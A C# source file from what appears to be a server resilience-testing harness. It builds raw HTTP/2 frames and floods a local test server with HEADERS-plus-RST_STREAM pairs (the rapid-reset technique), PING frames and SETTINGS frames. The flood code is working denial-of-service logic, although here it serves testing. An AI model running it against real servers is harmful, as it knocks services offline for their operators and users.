using System.Buffers.Binary;
using System.Net.Sockets;
using System.Text;

namespace Tornadose.Attack;

/// <summary>Frames of HTTP/2 that cost their sender less than the server.</summary>
internal static class Http2Attack
{
    private const byte Headers = 1;
    private const byte Reset = 3;
    private const byte Settings = 4;
    private const byte Ping = 6;
    private const byte EndsStreamAndHeaders = 5;

    private static readonly byte[] Preface = Encoding.ASCII.GetBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");

    public static Task RunAsync(Battle battle) => battle.GrowthAsync(150, async () =>
    {
        for (var connection = 0; connection < 10; connection++)
            await FloodAsync(battle, stream => [.. Request(stream), .. Frame(Reset, 0, stream, [0, 0, 0, 8])], count: 10_000);
        await FloodAsync(battle, static _ => Frame(Ping, 0, 0, new byte[8]), count: 200_000);
        await FloodAsync(battle, static _ => Frame(Settings, 0, 0, []), count: 200_000);
    });

    /// <summary>Sends as many as the server takes.</summary>
    private static async Task FloodAsync(Battle battle, Func<int, byte[]> frames, int count)
    {
        var socket = await battle.Attacker.ConnectAsync(port: battle.Server.Http2Port);
        _ = DrainAsync(socket);
        try
        {
            await socket.SendAsync((byte[])[.. Preface, .. Frame(Settings, 0, 0, [])]);
            for (var number = 0; number < count; number += 100)
            {
                var batch = Enumerable.Range(number, 100).SelectMany(index => frames((2 * index) + 1)).ToArray();
                await socket.SendAsync(batch).WaitAsync(TimeSpan.FromSeconds(2));
            }
        }
        catch (Exception failure) when (failure is SocketException or TimeoutException)
        {
            // the server has ended the connection, or no longer reads
        }
    }

    private static async Task DrainAsync(Socket socket)
    {
        var buffer = new byte[16 * 1024];
        try
        {
            while (await socket.ReceiveAsync(buffer) > 0)
            {
                // whatever it says
            }
        }
        catch (Exception failure) when (failure is SocketException or ObjectDisposedException)
        {
            // cut
        }
    }

    /// <summary><c>GET /stores/orders</c>: the static table of HPACK, and two literals.</summary>
    private static byte[] Request(int stream)
    {
        byte[] path = [0x04, 14, .. "/stores/orders"u8];
        byte[] authority = [0x01, 9, .. "localhost"u8];
        return Frame(Headers, EndsStreamAndHeaders, stream, [0x82, 0x86, .. path, .. authority]);
    }

    private static byte[] Frame(byte type, byte flags, int stream, byte[] payload)
    {
        var frame = new byte[9 + payload.Length];
        frame[1] = (byte)(payload.Length >> 8);
        frame[2] = (byte)payload.Length;
        frame[3] = type;
        frame[4] = flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, 9);
        return frame;
    }
}
